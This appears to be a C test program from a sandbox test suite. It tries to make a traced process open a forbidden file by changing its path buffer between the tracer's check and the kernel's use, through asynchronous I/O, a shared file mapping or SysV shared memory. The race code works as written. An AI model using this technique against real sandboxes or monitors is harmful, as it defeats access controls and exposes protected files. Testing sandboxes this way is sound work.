/* share_mem: a process alone in the traced tree has its path buffer rewritten between the
 * tracer's check and the kernel's use -- by something that is no task of the tree: the kernel
 * completing an asynchronous read into it, or a process outside the tree sharing its page.
 *
 *   share_mem MODE ALLOWED FORBIDDEN WHERE [ITERATIONS [SECONDS]]
 *
 * ALLOWED and FORBIDDEN are paths of the same length (the decoy and the secret).
 *
 * MODE: aio        WHERE is a file holding FORBIDDEN (NUL-padded to a block): each try puts
 *                  ALLOWED in a buffer, submits (io_submit) an O_DIRECT read of the file into
 *                  it, waits a random while and opens the buffer; the read lands when the
 *                  disk is done
 *       file       WHERE is a file we map MAP_SHARED; a `flip_file` process outside the
 *                  traced tree flips its first bytes between ALLOWED and FORBIDDEN
 *       file_fork  the same mapping, made by a parent that then forks and exits: the child
 *                  inherits it, and is alone in the tree
 *       shm        WHERE is the id of a SysV segment a `flip_shm` process outside the tree
 *                  flips (shmat)
 *       flip_file  the outsider of `file`: maps WHERE and flips it until killed
 *       flip_shm   the outsider of `shm`: makes a segment, prints "shmid N", flips it until
 *                  killed
 * With $ESC_WAIT_TRACER (file, shm), the mapping is made before systrace attaches.
 * No thread and no other child is alive while we open: only writers the engine does not
 * count as tasks can change the buffer.  Every fd obtained is checked by inode and content.
 * Issue 11 class 3 ("the kernel uses exactly what was checked").
 */
#include "race.h"

#include <linux/aio_abi.h>
#include <sys/ipc.h>
#include <sys/shm.h>

#define AREA 4096
#define FLIPS_AT 2048 /* the outsider's flip counter, in the shared page */

static void flip_forever(char *page, const char *a, const char *b, size_t len) {
    volatile long *flips = (volatile long *)(page + FLIPS_AT);
    for (;;) {
        memcpy(page, a, len);
        __asm__ volatile("" ::: "memory");
        memcpy(page, b, len);
        __asm__ volatile("" ::: "memory");
        (*flips)++;
    }
}

static char *map_file(const char *path) {
    int fd = open(path, O_RDWR);
    if (fd < 0)
        return MAP_FAILED;
    char *page = mmap(NULL, AREA, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    close(fd);
    return page;
}

static void open_loop(char *page, struct budget *budget, struct race_tally *t) {
    wait_for_tracer(); /* ($ESC_WAIT_TRACER: systrace --attach comes now, after the mapping) */
    wait_for_peer((volatile long *)(page + FLIPS_AT));
    budget->start = now_s();
    while (budget_left(budget))
        race_count_open(t, open(page, O_RDONLY));
}

static void spin(double seconds) {
    double until = now_s() + seconds;
    while (now_s() < until)
        ;
}

static void aio_loop(const char *allowed, size_t len, const char *where, struct budget *budget,
                     struct race_tally *t) {
    int fd = open(where, O_RDONLY | O_DIRECT);
    if (fd < 0)
        skipped("O_DIRECT open: %s", ename(errno));
    char *buf = mmap(NULL, AREA, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    aio_context_t ctx = 0;
    if (syscall(SYS_io_setup, 4, &ctx) < 0)
        skipped("io_setup: %s", ename(errno));
    unsigned seed = (unsigned)getpid();
    budget->start = now_s();
    while (budget_left(budget)) {
        memcpy(buf, allowed, len);
        struct iocb cb = {.aio_fildes = (unsigned)fd, .aio_lio_opcode = IOCB_CMD_PREAD,
                          .aio_buf = (uintptr_t)buf, .aio_nbytes = AREA};
        struct iocb *list[1] = {&cb};
        if (syscall(SYS_io_submit, ctx, 1, list) != 1)
            blocked("io_submit: %s", ename(errno));
        spin((rand_r(&seed) % 200) * 1e-6); /* the read lands before, during or after open */
        race_count_open(t, open(buf, O_RDONLY));
        struct io_event event;
        if (syscall(SYS_io_getevents, ctx, 1, 1, &event, NULL) != 1)
            blocked("io_getevents: %s", ename(errno));
        if (event.res != AREA)
            blocked("the asynchronous read gave %lld", (long long)event.res);
    }
}

int main(int argc, char **argv) {
    if (argc < 5)
        usage("share_mem MODE ALLOWED FORBIDDEN WHERE [ITERATIONS [SECONDS]]");
    const char *mode = argv[1], *a = argv[2], *b = argv[3], *where = argv[4];
    size_t len = strlen(a) + 1;
    if (len != strlen(b) + 1 || len >= FLIPS_AT)
        usage("ALLOWED and FORBIDDEN must have the same (short) length");
    setvbuf(stdout, NULL, _IOLBF, 0);

    if (!strcmp(mode, "flip_file")) {
        char *page = map_file(where);
        if (page == MAP_FAILED)
            usage("flip_file: cannot map WHERE");
        flip_forever(page, a, b, len);
    }
    if (!strcmp(mode, "flip_shm")) {
        int id = shmget(IPC_PRIVATE, AREA, IPC_CREAT | 0600);
        char *page = id < 0 ? (char *)-1 : shmat(id, NULL, 0);
        if (page == (char *)-1)
            usage("flip_shm: no segment");
        shmctl(id, IPC_RMID, NULL); /* gone once the last process detaches it */
        memcpy(page, a, len);
        printf("shmid %d\n", id);
        flip_forever(page, a, b, len);
    }

    struct budget budget;
    budget_args(&budget, argc, argv, 5);
    struct race_tally t = {0};
    if (!strcmp(mode, "aio")) {
        aio_loop(a, len, where, &budget, &t);
    } else if (!strcmp(mode, "file") || !strcmp(mode, "file_fork")) {
        char *page = map_file(where);
        if (page == MAP_FAILED)
            skipped("mmap of %s: %s", where, ename(errno));
        if (!strcmp(mode, "file_fork")) {
            pid_t parent = getpid();
            pid_t child = fork();
            if (child < 0)
                blocked("fork: %s", ename(errno));
            if (child > 0)
                _exit(0); /* the child inherits the mapping, and is left alone */
            while (getppid() == parent)
                usleep(1000);
        }
        open_loop(page, &budget, &t);
    } else if (!strcmp(mode, "shm")) {
        char *page = shmat(atoi(where), NULL, 0);
        if (page == (char *)-1)
            skipped("shmat: %s", ename(errno));
        open_loop(page, &budget, &t);
    } else {
        usage("MODE: aio file file_fork shm flip_file flip_shm");
    }
    note("%ld tries: %ld secret, %ld other file, %ld refused", budget.done - 1, t.got, t.other,
         t.refused);
    if (t.got)
        escaped("opened the secret %ld times (fd -> %s)", t.got, t.where);
    if (t.other == 0)
        blocked("never opened anything (%ld refused)", t.refused);
    blocked("%ld opens, none of them the secret", t.other);
}
